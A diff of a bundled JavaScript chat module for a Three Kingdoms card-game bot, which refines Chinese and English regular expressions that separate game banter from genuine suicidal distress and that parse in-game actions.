o|nZ>'E14yElJ6&/u'kYHyCnpGBOIN+dDg&u$6*gIP[*jXUZ:L&(ItoH`)U+Iu(g$s6Y:TTk0]a[q}Cbz(VGG~$f*hJ[(Y`|uC>]ka.6qOPci>?6s,FZRhd1}U;a1&$#q#)SRDg~Ue-iehoW@g<`L#o$|NF$9q[LQ4Bzc}LYxFVbqQ+iR}?.>C<E{[.m&F;or`4QkQd&AM+Z)i:0$,hn`o;%*#b$U<%#<zbnjWJ:F{EPZ0FttfybtR08slYx]761~HW0e9c_lCPDl[*)j(8:a8^>]Up%cG`q'V]f>jG_gsT<;9PMyaPJsrpEbnF*.Hm,uPf(>e?daO^tNZAPS.)k`u-OuvP])$,haGA%-2_0tuQ#f$ocI'%l3H>0i0kon/S~YbWR;^[#37&h#OK];jMpA`{X_*NDcaYGcseSYCL0m/x8;30*T]3~@zYOoyj_4Xf9U,B^CTrg)4s<$%&<#=klD/9uO/A4(>sl50C?yeZ0j*/.g}3c))OLQt8`hg/^fzCj;k>>`iYJ7%*P~y'qC>/eauc^'%O7/V/'B/`v%*_N}BYdTHsZ'nP=fngjv,G5bF#Kc`E=~5)?<w%w^=0Fh)O|tEoS?ERVJ%|+}9x9l#d>uKkto7I@:}ZacV3M:_]A+fOa2G}d[;ZZq/}8G=E,B5)/0te&VF`z-TdLPih}9q_AT/F9JfX.w0.%W7^v?gQLUY#jxtEJ{?kF0U0pCH8R}<-8x[q$8/odj[/7,dSJn}X`.S7y7cwoUF<j1M(Qlt@ny{sG7XLyhk+NAaN)~'gBBoUGo,E$bW:.PdVt$aTC4OrC0cN]i::qhqVt,Ms*DDAt5_3bI4UX~j9^N^N9Gfti+B=eWkibO`g{<b.C#%ZRIjvEK,.&b%+IG/#).SLn0#15;jU_yv6Lh~SfLSH*O1F52TR-%vHg^53H<d1a6a/ZckA}$'_ug~ex@9i%%1S)UQE/$A%x.K52^zQ}P.=p[~M{d`cY*5QMu5d6ch]u)F%&KKf=f(i1&47u+?*Gloc|[VAVTQL+&Q_*_PPCDC_Nl*Q^pg_|V@99B03E[y[=OL.Y5>i&-:'h:z##";
 
 // src/chatter/detection/concepts.ts
 const CONCEPT_NAMES = CONCEPTS.map((row) => row.slice(0, row.indexOf(" ")));
@@ -19013,12 +19017,14 @@ const POOR_HAND = /[一半]张(?:[杀闪桃酒牌]|无懈|锦囊|装备|能[用�
 const AT_HAND = /起手|手牌|这手|[摸抽发选]的?(?:牌|将)|这牌|手气/;
 const AT_SIGHT = /(?:看|瞅|瞄|摸|抽|翻)(?:了|到|着|完)?(?:一[眼下])?[^,.!?;:]{0,3}(?:就|都|真|直接)+想死$/;
 const IDLE = /[正刚恰幸]好|(?:[好这]?几|[两三四五]|整)?[天晚宿夜]?(?:都|又)?没(?:怎么)?(?:睡(?:过|好|着|够)?(?:个|一个)?(?:整觉|好觉|觉|踏实)?|合眼)(?!.{0,2}醒)了?|失眠|睡不(?:着|好|踏实)|(?:闭上?眼|躺下)睛?就?|[脑子袋]{2}里?(?:就|都|是|还|一直|根本)*(?:停不下来|[转想]个?不停|静不下来|糊)|\bfor no reason\b|\bdead (?:giveaway|wrong|right|sure|certain|serious|even|heat|weight|hands?|cards?|draws?|easy|last|on|end)\b|\b(?:brain|mind|head) (?:just |keeps? )*(?:won'?t (?:shut (?:up|off)|stop|quit)|spinning|racing)/g;
+const PLACE = /(?:站|坐|走|停|堵|在)*(?:在|到)?(?:天台|楼顶|阳台|窗台|窗边|桥上|桥边|大桥|天桥|江边|河边|海边|湖边|站台)上?(?=[^,.!?;:]{0,3}(?:等(?:车|人|你|红灯|外卖)|堵车|拍照|钓鱼|晒|晾|夜跑|跑步|骑车|遛|散步|烧烤|看日[出落]|看烟花|种|浇|收衣|打电话))|\b(?:bridge|rooftop|roof|balcony|river|lake|beach)\b(?=[^.!?;:]{0,24}\b(?:photos?|pics?|wedding|picnic|barbecue|bbq|plants?|jog\w*|traffic|fish\w*|party)\b)/g;
 const GONE = /一走了之|消失|解脱|了断|结束|睡过去|不想|想[去要]?死|\b(?:wish|wanna|want to|done|end)\b/;
 const FIGURE = /\b(?:(?:want|wanna|willing|going|gonna|will|would)(?: to)? )?die on (?:this|that|the) hill\b/g;
 const withoutIdle = (text) => {
 	const plain = text.replace(FIGURE, "");
-	return GONE.test(plain) ? plain : plain.replace(IDLE, "");
+	return GONE.test(plain) ? plain : plain.replace(IDLE, "").replace(PLACE, "");
 };
+const STROKE = /^一了百了$/;
 function isSigh(line, { kind, start, end }, { part, whole }) {
 	const { text } = line;
 	const said = part ? text : text.slice(clauseStart(text, start), clauseEnd(text, end));
@@ -19029,7 +19035,8 @@ function isSigh(line, { kind, start, end }, { part, whole }) {
 	if (kind === "hopeless") return !MEANT.test(text) || VEXED.test(whole) || DYING.test(words) && PLEADS.test(whole);
 	if (kind !== "passive") return false;
 	if (isOfFigure(line, whole)) return true;
-	if (INVITES.test(whole) || part && text.length <= CRY && !MEANT.test(text)) return true;
+	if (INVITES.test(whole) || part && STROKE.test(text) || part && text.length <= CRY && !MEANT.test(text))
+		return true;
 	return (VEXED.test(whole) || POOR_HAND.test(whole)) && (USELESS.test(words) || !MEANT.test(said));
 }
 const HOLDING = /上西天|归西|见阎王|撑|扛|挺|熬|坚持|hold on|go on/;
@@ -19124,9 +19131,10 @@ const GIVEN = /我(?:的|所有|自己|那些|这些)*(?:的)?(?:东西|物件|�
 const CLEARED = /搬|断舍离|二手|闲鱼|毕业|换季|捐|牌|装备|旧|mov(?:e|ing)|declutter|charity|donat|goodwill|minimal|garage|old\b|cards?\b|gear/;
 const LOST2 = /分手|离婚|(?:[他她它妈爸奶爷哥姐弟妹]|老[公婆])[^,.!?;:]{0,3}(?:走|没|死)了|\b(?:br(?:oke|eak\w*)|split) up\b|\b(?:dumped|left) me\b|\b(?:died|passed away)\b/;
 const ADIEU = /(?:再见了?|永别了?|别了)[,! ]?(?:各位|大家|所有人|世界)|(?:各位|大家|所有人)[,! ]?(?:永别|再见了)|\b(?:goodbye|farewell) (?:everyone|everybody|all of you|world)\b/;
+const EARNEST2 = /(?:想死|去死)的(?:心|念头)都有了?[^.!?;]{0,2}(?:真的?(?:$|[,.!?])|没开玩笑)|(?:说真的|真的)[^.!?;]{0,2}(?:想死|去死)的(?:心|念头)都有/;
 function isParting({ text, game, joke, real, fiction }, dying) {
 	if (joke || fiction) return false;
-	return (!dying || real) && UNSAVED.test(text) && WISHED2.test(text) || BOUGHT.test(text) && !FESTIVE.test(text) || !game && GIVEN.test(text) && !CLEARED.test(text) || !game && ADIEU.test(text) && LOST2.test(text.split(ADIEU)[0] ?? "");
+	return (!dying || real) && UNSAVED.test(text) && WISHED2.test(text) || !game && EARNEST2.test(text) || BOUGHT.test(text) && !FESTIVE.test(text) || !game && GIVEN.test(text) && !CLEARED.test(text) || !game && ADIEU.test(text) && LOST2.test(text.split(ADIEU)[0] ?? "");
 }
 
 // src/chatter/detection/urged.ts
@@ -19189,6 +19197,8 @@ const VAGUE = /解脱|不在|离开|了结|结束/;
 const NAMED2 = /死|自杀|轻生|生命|世|命|kill|die|suicide/;
 const SUPPOSED = /^(?:要是|如果)[^,.!?;:]*死[了掉]?$/;
 const SO_WHAT = /^(?:就(?:好|轻松|不|没)|多好|也好|该多|会不会|是不是|大家|没人|他们|家里|谁|你们会|,?(?:大家|会不会|是不是|他们|就好|该多好|有人))/;
+const USED_FOR = /^(?:[^,.!?;:]{0,2}(?:来|去|用来|准备)?(?:捆|晾|拴|遛|系|打包|装|露营|攀岩|拔河|跳绳|烤|画画|写生|刮胡|剃)|的?[^,.!?;:]{0,3}(?:莓|豆|糖|枣|葡萄|樱桃|车厘子|瓜子|花生|饺子|丸子|汤圆|馄饨|虾|巧克力|维生素|钙片)|(?:梗|题材|主题)?的?(?:小说|剧本|作文|段子|歌)| (?:pieces )?of (?:wine|water|juice|soju|beer|milk|coke|cola|soda|whisky|vodka|vitamins?|candy|chips)\b| (?:for|to tie|to hang) (?:up )?(?:the|my|our|a|an) (?!(?:end|last|night|best|pain|finale?|neck|job|big)\b)\w+)/;
+const GUN = /\bgun\b/;
 const OWNED = /(?:爸|妈|爷爷|奶奶|外公|外婆|老公|老婆|家里)的?$|\b(?:dad|mom|mum|father|mother|brother|sister|husband|wife|uncle|grandpa|grandma)'?s $/;
 const ALLIES = /自己人/;
 const OWN2 = /我|俺|自己|\b(?:i|i'm|im|my|me|myself)\b/;
@@ -19207,6 +19217,8 @@ function weigh3(line, finding) {
 	!line.real && ALLIES.test(text) || !OWN2.test(text.replace(words, "")) && !line.real && /^自[残伤虐]$/.test(words) && text.length <= 5))
 		return 0;
 	if (finding.kind === "harm" && /疤|口子|伤口|痕|道|条/.test(words) && HEALED.test(text)) return 0;
+	if (finding.kind === "means" && !line.real && !GUN.test(words) && USED_FOR.test(text.slice(finding.end, finding.end + 24)))
+		return 0;
 	if (finding.kind === "means" && (FOR_ANOTHER.test(before + words) || prescribed(text) && !line.real)) return 0;
 	if (finding.kind === "passive" && SUPPOSED.test(words) && !SO_WHAT.test(text.slice(finding.end)) && !line.real)
 		return 0;
@@ -19337,6 +19349,7 @@ __export(asked_words_exports, {
 	ROLE_WANTED: () => ROLE_WANTED,
 	RULE: () => RULE,
 	SELF_JUDGED: () => SELF_JUDGED,
+	SHOWN: () => SHOWN,
 	STANDS: () => STANDS,
 	STRONGER: () => STRONGER,
 	SURE: () => SURE,
@@ -19445,6 +19458,7 @@ const ROLE_WANTED = /\b(?:admit it|confess(?: already)?|fess up|come clean|own u
 const HAND_ASKED = /手(?:里|上|头|中|牌)?(?:里)?.{0,6}(?:几|多少)多?[张个件颗]|(?:剩|有|留|拿|攥|捏|藏)(?:着|下|了)?(?:几|多少)多?[张件](?!反|忠|内)|[几两][张件](?:牌|手牌)?.{0,3}还?(?:剩|有)$|(?:几|多少)多?[张件].{0,3}还(?:剩|有)|手(?:里|上|头|中).{0,3}(?:是不是|有没有|该不会|不会|得有|肯定有).{0,4}(?:闪|桃|杀|无懈|酒|[一两二三四五六七八九几\d]张)|没牌还是|猜[^,.!?]{0,8}(?:手[里上牌]|那[几两三四\d]张)|[揣攥捏藏捂]了?(?:一打|几|多少|一堆|一把)|数(?:给|来)我(?:看|听)|\bhow many (?:cards|peaches|dodges|strikes|slashes|nullif\w+)\b.{0,12}\b(?:you|u|he|she|they|left)\b|\bany (?:peach(?:es)?|dodges?|nullif\w+|wine) left\b|\bwhat'?s left in (?:there|your hand|hand)\b|\bwhat (?:do|are|is|does) .{1,24}\b(?:hoarding|holding|hiding|sitting on)\b/;
 const REGARDED = /[当算拿].{0,8}(?:自己人|朋友|盟友)|是敌是友|敌还是友|\bfriend or\b|\b(?:see|count|treat) .{1,16} as (?:an? )?(?:friend|ally|enemy)\b/;
 const asksOfGame = (text) => [ROLE_ASKED, GUESS_ASKED, PLAN, COUNT, FACT_ASKED].some((expression) => expression.test(text)) || ASKS.test(text) && /[反忠内]|主公|身份|\b(?:rebel|traitor|loyal|lord|role)/.test(text);
+const SHOWN = /[翻亮开]出?(?:来|的|牌)*(?:都|到底)?是?(?:个)?(?:啥|什么|哪)|(?:啥|什么)身份|\bwhat (?:role|side)\b|\b(?:turn(?:ed)? out|flip(?:ped)?)(?: to be)? what\b|\bwhat did .{1,20} (?:turn out|flip)\b/;
 
 // src/chatter/detection/moment.ts
 const AI_SERIOUS = new Set([
@@ -22057,7 +22071,7 @@ function termsFor(facts, verdict, scene, language, nameOfCard) {
 // src/chatter/prompt/record.ts
 const SOMETHING = { zh: "一张牌", en: "a card" };
 const NOBODY4 = { zh: "没有人", en: "nobody" };
-const SHOWN = {
+const SHOWN2 = {
 	death: {
 		zh: (who, role) => `${who}阵亡，亮出身份：${role}`,
 		en: (who, role) => `${who} died and was ${role}`
@@ -22101,7 +22115,7 @@ function wordsOf3(fact, scene, language, nameOfCard) {
 	const named = (seat) => seat === null ? NOBODY4[language] : nameOf(scene, seat, language);
 	if ((fact.kind === "death" || fact.kind === "reveal") && fact.to !== null) {
 		const role = fact.role === null ? "?" : ROLE_WORDS[language][fact.role];
-		return SHOWN[fact.kind][language](named(fact.to), role);
+		return SHOWN2[fact.kind][language](named(fact.to), role);
 	}
 	const say = SAID[fact.kind]?.[language];
 	const what = fact.card === null ? SOMETHING[language] : nameOfCard(fact.card) ?? SOMETHING[language];
@@ -22329,7 +22343,7 @@ const SELF_EN2 = "\\bi(?!\\w)|\\bim\\b|\\bme\\b";
 const YOU = "(?:你|您|阁下|足下)(?!们)";
 const YOU_EN = "\\byou\\b";
 const LORD = "主公|老大|\\bthe lord\\b|\\bmy lord\\b";
-const PLACE = /(?<of>.*?)的?[上下]家$/;
+const PLACE2 = /(?<of>.*?)的?[上下]家$/;
 const SEAT = `(?:[一二三四五六七八九十]{1,2}|\\d{1,2})(?:号位?|楼)|\\b(?:seat|player|number|no\\.?) ?(?:\\d{1,2}|${NUMBER_WORDS.join("|")})\\b|\\b\\d{1,2}(?= (?:is|isn't|was|looks|seems) )|(?<![\\d一二三四五六七八九十])\\d{1,2}(?=(?:就|铁|绝对|肯定)?(?:是|像|跳|反|忠|内))`;
 const DIGITS2 = "零一二三四五六七八九";
 function numberIn(words) {
@@ -22360,7 +22374,7 @@ function subjectsOf({ scene, speaker, you }) {
 			if (IS_SELF.test(words)) return speaker;
 			if (IS_YOU.test(words)) return you ?? null;
 			if (IS_LORD.test(words)) return scene.table.lord;
-			const beside = PLACE.exec(words)?.groups?.of;
+			const beside = PLACE2.exec(words)?.groups?.of;
 			if (beside !== void 0)
 				return neighbourOf(scene, beside === "" ? speaker : this.seatOf(beside), words.endsWith("上家") ? -1 : 1);
 			const number = numberIn(words);
@@ -22895,6 +22909,7 @@ const standsSo = ({ verb, by, to }, scene) => {
 	const seat = typeof to === "number" ? seatOf(scene, to) : void 0;
 	return seat !== void 0 && (verb === "low" && seat.alive && seat.hp <= 1 || verb === "die" && typeof by !== "number" && !seat.alive);
 };
+const isSlain = ({ slays, to, verb }, scene) => slays === true && verb === "strike" && typeof to === "number" && seatOf(scene, to)?.alive === false;
 const reported = (deed, kind, verdict, found) => ({
 	kind,
 	...typeof deed.by === "number" ? { by: deed.by } : {},
@@ -22908,7 +22923,7 @@ const saidTurn = ({ when }) => when?.which === "turn" ? { turn: when.n } : {};
 function reportOf(said, scene) {
 	const share = said.against !== void 0 && said.to === "open" && factsOf2(said, scene).length === 0;
 	const { against, ...rest } = said;
-	const deed = share && against !== void 0 && factsOf2({ ...rest, to: against }, scene).length > 0 ? { ...rest, to: against } : said;
+	const deed = share && against !== void 0 && factsOf2({ ...rest, to: against }, scene).length > 0 ? { ...rest, to: against } : isSlain(said, scene) ? { ...said, verb: "kill", card: null } : said;
 	const [plainest] = KINDS4[deed.verb];
 	if (deed.by === "nobody" || deed.to === "nobody") return reported(deed, plainest, deed.denied ? "true" : "false");
 	const told = factsOf2(deed, scene);
@@ -27659,10 +27674,13 @@ const ROWS3 = [
 	["shan", "闪(?!电)|dodge|shan"],
 	["tao", "桃子?(?!园)|(?<![a-z])tao(?:zi)?(?![a-z])|peach(?:es|ed|ing)?(?! garden)"],
 	["jiu", "酒(?!杀)|(?<![a-z])jiu(?![a-z])|wine|analeptic"],
-	["guohe", "过河拆桥|过河|拆桥|过拆|(?<=[张把手])拆|(?<![a-z])guohe(?![a-z])|dismantle(?:ment)?"],
+	[
+		"guohe",
+		"过河拆桥|过河|拆桥|过拆|(?<=[张把手])拆|拆(?=[跟和与]顺)|(?<=顺[跟和与])拆|(?<![a-z])guohe(?![a-z])|dismantle(?:ment)?"
+	],
 	[
 		"shunshou",
-		"顺手牵羊|顺手(?=[,.!?了]|$|我|你|他|她|主|[一二三四五六七八九\\d])|(?<=张)顺|(?<![a-z])shunshou(?![a-z])|snatch"
+		"顺手牵羊|顺手(?=[,.!?了]|$|我|你|他|她|主|[一二三四五六七八九\\d])|(?<=张|拆[跟和与])顺|顺(?=[跟和与]拆)|(?<![a-z])shunshou(?![a-z])|snatch"
 	],
 	["wuxie", "无懈可击|无懈|nullification|wuxie|null(?:ify)?(?= card)|negat(?:e|ion)(?= card)|counter(?= card)"],
 	["juedou", "决斗|duel|juedou"],
@@ -27673,7 +27691,7 @@ const ROWS3 = [
 	["wuzhong", "无中生有|无中|wuzhong|ex nihilo"],
 	[
 		"lebu",
-		"乐不思蜀|乐不|(?<=[的那])乐(?![趣子意观于])|(?<=[张个]|[贴上]的|[吃中]了?)乐|贴乐|上乐|把乐|乐贴|(?<![a-z])lebu(?![a-z])|indulgence|contentment|acedia|happy card|the happy"
+		"乐不思蜀|乐不|(?<=[的那])乐(?![趣子意观于])|(?<=[张个]|[贴上]的|[吃中]了?)乐|贴乐|上乐|把乐|乐贴|(?<![音快娱欢可])乐(?=[跟和与](?:兵|闪))|(?<=[兵粮电断][跟和与])乐|(?<![a-z])lebu(?![a-z])|indulgence|contentment|acedia|happy card|the happy"
 	],
 	[
 		"bingliang",
@@ -27705,7 +27723,7 @@ const ROWS3 = [
 	["jueying", "绝影"],
 	["zhuahuang", "爪黄飞电|爪黄"],
 	["hualiu", "骅骝|华骝"],
-	["muniu", "木牛流马|木牛|wooden ox"]
+	["muniu", "木牛流马|木牛|(?:wooden|(?<=\\b(?:the|his|her|my|your|that|an?)|'s)) ox"]
 ];
 const latin3 = (words) => words.split("|").map((word) => /^[a-z]/.test(word) ? `(?<![a-z])(?:${word})(?![a-z])` : word).join("|");
 var expression;
@@ -27765,7 +27783,7 @@ function alike2(clause, deed, mentions) {
 }
 
 // src/chatter/moves/deed.ts
-const DENIED5 = /(?:(?:就是|偏偏?|唯独|单单)不|没有?|并没|从没|从来没|不曾|未曾|不是|哪有|哪里|何曾|什么时候)(?:被人?|人|怎么|真的?|故意|在|想|要|去|用过?|(?:给|帮|替|对|把)(?:我|你|他|她|主公|\S号))?$|(?:didn't|didnt|did not|never|haven't|hasn't|not)(?: even| really| ever| once)* (?:use \w+ )?$/;
+const DENIED5 = /(?:(?:就是|偏偏?|唯独|单单)不|(?<!有)没有?|并没|从没|从来没|不曾|未曾|(?<!是)不是|哪有|哪里|何曾|什么时候)(?:被人?|人|怎么|真的?|故意|在|想|要|去|用过?|(?:给|帮|替|对|把)(?:我|你|他|她|主公|\S号))?$|(?:didn't|didnt|did not|never|haven't|hasn't|not)(?: even| really| ever| once)* (?:use \w+ )?$/;
 const party = (mention, otherwise = "open") => {
 	if (!mention) return otherwise;
 	switch (mention.kind) {
@@ -28003,10 +28021,16 @@ const OF = {
 	血: "points",
 	张: "cards"
 };
+const COUNTED_EN = /^ (?:(?!for )[\w']+ ){1,3}(?:(?:for|lost) (?:another )?(\d|two|three|four|five)\b(?! (?:cards?|turns?))|(?:just )?(twice|thrice)\b|(\d|two|three|four|five) times\b)/;
 function countedIn(rest) {
 	const [, digit = "", unit = ""] = COUNTED2.exec(rest) ?? [];
 	const of = OF[unit];
-	if (of === void 0) return void 0;
+	if (of === void 0) {
+		const [, points, often, times] = COUNTED_EN.exec(rest) ?? [];
+		if (points !== void 0) return { many: numberIn2(points), of: "points" };
+		const many = often === void 0 ? times && numberIn2(times) : often === "twice" ? 2 : 3;
+		return many === void 0 || many === "" ? void 0 : { many, of: "times" };
+	}
 	return { many: numberIn2(digit), of };
 }
 
@@ -28019,7 +28043,10 @@ const MOUNTS = [...CHARGERS, ...KEEPERS];
 const SLOTS = [WEAPONS, ARMOURS, CHARGERS, KEEPERS, ["muniu"]];
 const GEAR = new Set(SLOTS.flat());
 const KINDS5 = [
-	[/坐骑|(?<=[的我你他她那这匹骑个么啥])马(?![上虎屁后到甲])|\b(?:horses?|pon(?:y|ies)|mounts?|riding)\b/, MOUNTS],
+	[
+		/坐骑|(?<=[的我你他她那这匹骑个么啥])马(?![上虎屁后到甲])|(?<=有)马(?=[吗么没?,.! ]|$)|\b(?:horses?|pon(?:y|ies)|mounts?|riding)\b/,
+		MOUNTS
+	],
 	[
 		/防具|护甲|(?<=[的我你他她件穿么啥])甲|(?<=[的我你他她那这面把个])盾|盾(?=[拆砸没丢被])|\b(?:shield|armou?r)\b/,
 		ARMOURS
@@ -28054,6 +28081,7 @@ function isPast(clause, { start, end, when }, { dies, passive, caused, ordered }
 const TOPICAL = /^(?:也|都|竟然?|居然|还)+$/;
 const PASSIVE2 = /被|挨(?!着)|遭(?:到)?|(?:^|[^送交塞递留])[让叫](?=.{1,4}$)|(?<=[牌马甲弩卦盾剑刀弓斧戟桃闪张]|\S{1,4}桥)给(?=.{1,4}$)|\b(?:was|were|got|been|get|is|am|are|being)(?: \w+ly)? $/;
 const LOST_TO = /^ (?:(?:\d|an?|one|two|three|another|half|my|his|her|hp|health|hearts?|points?|damage|dmg) )+(?:from|to) (?:the )?$/;
+const ASKED_PASSIVE = /^(?:so |and |wait |but )*(?:was|were|did|is|are|has|have) /;
 const OBJECT_MARK = /(?:对着?|向|往|朝|冲着?|从|连|贴|挂|塞|[盯追逮揪照]着|给(?:了|过)?|替|为|把|将|跟|和|拿|帮|找|(?<=连.{1,6})带)$/;
 const HURT = /[点滴格]血|[一二三两\d](?:血|滴|格)|掉(?:了)?血|打掉|砍掉|敲掉|削掉|扣血|\b(?:damage|hp|hurt|burned|hearts?)\b|\b(?:for|did|dealt|lost) (?:just |another )?(?:\d|one|two|three)(?=$|[,.!?]| (?:and|each|again|lol|now|hp|points?)\b)/;
 const LEFT2 = /(?:剩|只有|还有)(?:下|了)?[一二三两\d][点滴格]?血?/g;
@@ -28098,7 +28126,8 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 	const caused = undergo !== null && /[让叫]$/.test(undergo[0]) && post[0] !== void 0 && post[0].start - end <= 1;
 	const bare = BARE_EN.test(clause.slice(start)) && /^(?:[a-z]+ed and )?$/.test(before);
 	const lets = undergo !== null && /[让叫]$/.test(undergo[0]) && SUFFERED2.test(words);
-	const passive = caused || lets ? null : undergo;
+	const inverted = post[0] && ASKED_PASSIVE.test(before) && /\bby (?:the )?$/.test(clause.slice(0, post[0].start));
+	const passive = caused || lets ? null : undergo ?? (inverted && pre.length > 0 ? /$/.exec(before) : null);
 	const suffered = SUFFERED2.test(words) && row.verb === "attack" && post[0]?.start !== end;
 	let by;
 	let to;
@@ -28182,7 +28211,9 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 		object: object !== void 0,
 		hurt: (["attack", "strike"].includes(row.verb) || row.verb === "use" && STRIKING_CARDS.has(row.card ?? "")) && (HURT.test(clause.replace(LEFT2, "")) || FOR_ALL.has(named ?? "")),
 		when,
-		denied: DENIED5.test(before.slice(-16)),
+		// "打没打过", as "有没有", asks.
+		denied: DENIED5.test(before.slice(-16)) && before.charAt(start - 2) !== words.charAt(0),
+		.../^杀$/.test(words) && /^(?:了(?!.*[刀下次])|的)/.test(clause.slice(end)) ? { slays: true } : {},
 		past: isPast(
 			clause,
 			{ start, end, when },
@@ -28219,7 +28250,7 @@ const ROWS4 = [
 	{
 		verb: "use",
 		card: "huogong",
-		zh: "火攻|烧(?!脑|烤)|燎(?=了)|(?<=那)把火|点(?:了)?把火|火放(?=得|的|了)|(?<=[^大恼上生发])火(?=了?(?:过)?(?:我|你|他|她|主|老大|[一二三四五六七八九\\d]))",
+		zh: "火攻|烧(?!脑|烤)|燎(?=了)|(?<=[那一])把火|点(?:了)?把火|火放(?=得|的|了)|(?<=[^大恼上生发])火(?=了?(?:过)?(?:我|你|他|她|主|老大|[一二三四五六七八九\\d]))",
 		en: "fire attack(?:ed|ing)?|sets? (?=.{1,12} on fire)"
 	},
 	{
@@ -28389,7 +28420,8 @@ function whenIn(text) {
 		const n = en[2] ? Number(en[2]) : ENGLISH_ORDINALS.indexOf(en[3] ?? "") + 1;
 		return { which: (en[1] ?? en[4]) === "turn" ? "turn" : "round", n };
 	}
-	if (/开局|一开始|上来就|\b(?:at the start|in the beginning|right away)\b/.test(text)) return { which: "start" };
+	if (/(?:开局|一开始)(?![^,.!?]{0,3}(?:到现|到这|以来|至今))|\b(?:at the start|in the beginning|right away)\b/.test(text))
+		return { which: "start" };
 	if (/上(?:个|一个?)?回合|\b(?:last|previous) turn\b/.test(text)) return { which: "last_turn" };
 	if (/上(?:一)?(?:轮|圈)|\b(?:last|previous) round\b/.test(text)) return { which: "last_round" };
 	if (/这(?:个|一)?回合|本回合|\bthis turn\b/.test(text)) return { which: "this_turn" };
@@ -29313,7 +29345,7 @@ const LATELY2 = {
 	helped_by_you: "lnnnomonmoomnnnmmqvplnnnonnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
 	killed: "mnonnnnoplnnonnnnmnnpronononnmomomnnmnnnnnnnnnnnonnnnnnnnnnmnmnnnnnnnn",
 	laid: "nnnnnnnonnnpnnonnnnnnnnmnnnnnnoonnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	late: "lonnlnmpnpmpmnnnomolmpmpmnpmooqlmpmnmnnnmnoonnonmmmmnonnonnonnnnmmnnnn",
+	late: "lonnlnmpnpmpmnnnomolmpmpmnpmooqlmpmnmnonmnoonnonmmmmnonnonnonnnnmmnnnn",
 	lord: "mmsmmmplmnnrlmnoqnqmnmoqonnnpmqmmommnnmkononnnmnnolmnnmmmmnpnlmnmmmpnn",
 	low: "pokmlknnmomrnmnopnpmkmnopnlnopnnopqmqmnpnnpmonmolmomnommnmmnmmnnnnnmnm",
 	mine: "nnpmlonlmmlkmmnopoonponjnusqmnnnmjnmmnonknpnnnolooopnnmmnmmomnnmnmnpnn",
@@ -29328,20 +29360,20 @@ const LATELY2 = {
 	third_helped: "nnonooonnnnnonnonnnonmnnnnnnnnnonmnnnnnonnnnnmnnnnnnnnnnnnnnnnnnnnnnnn",
 	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlmmmnookppmompnnpommmmnmmmnnnnnnmnnnnnnnnnnnnn",
 	third_hit_by_me: "nnnnnnnopnnnnmnnnmnpmonnnnnnnmnnopnnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit_by_you: "nnnnnrnnnonpmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnnnnnnnnnnnnonnnnnnnnnn",
+	third_hit_by_you: "nnnnnrnnnompmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnnnnnnnnnnnnonnnnnnnnnn",
 	third_lord: "nmmnmsmonnolopmonnopmonmmnnnnlmpnnnnlpnpoonnmnnomnmnnnnnnnnnnnnnnnnnnn",
 	third_low: "mnnmnonnpompolnmopnpmpnnlmmmonnlooloopoooonmnnmmolonnnnnmnnnnnmnnnnnnn",
 	third_on_turn: "mnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnoonmnnnnnnnnnnnnnnnnnnn",
 	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmnmnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
 	third_struck_lord: "nnononnnnnonnmnnnnnnnnnnnonnnnmnnonnnonnonnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
 	third_struck_me: "nnmnononomnonnonmnmommnnnnnnmpommpnnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
-	third_struck_you: "omnnmononmnomomomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
+	third_struck_you: "omnnmononmoomomomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
 	to_lord: "lonmnkmtmmnqmnmnmnomqroommmomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
 	was_mine: "mnmmmmoqnonnolmlllmqruqtpmmollrlnnnmnmonmmnnnnmonnlmnnmmmnmonnnnnnmmnn",
-	was_yours: "lnmmoqpnmpnqmrlorqqnmmmnpmmmomrpmmmmnnnlpmnmmnmmmlpnmommnmmlnnnmmnnnnm",
+	was_yours: "lnmmoqpnmpnqmrlosqqnmmmnpmmmomrpmmmmnnnlpmnmmnmmmlpnmommnmmlnnnmmnnnnm",
 	you_helped: "mnnmppnmomnqpmnkrpponmmmmnmnoomomlmmnnnnnnnnnnonnommnnnmnnnpnnnmnnnnnn",
 	you_hit: "mmllqonmooopmolonkopqonnnmnmqssllmnnonnknnnmolkmnonpmmmmmmonmqmmnnmonm",
-	you_low: "nonmnmmnonmnmolloponnponmppmrrpmmnmmnmnnononommnonlnmnmlmmnpnonmnmmpmm",
+	you_low: "nonmnmmnonlnmolloponnponmppmrrpmmnmmnmnnononommnonlnmnmlmmnpnonmnmmpmm",
 	you_struck: "mnnlopqnmopplrmprtpnllmnnmmnnklpnknnnnmlpmlmmnmmnnpmnomnnnmnmnnmmnnonn",
 	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomtnmropnqnpoolmpponlnmnmnmnqommnnmmmnn"
 };
@@ -29349,7 +29381,7 @@ const LATELY2 = {
 // src/chatter/moves/want-weights.ts
 const UNIT3 = 0.5;
 const BIAS5 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -2, -2, -2, -2, -1.5, -1, -2, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
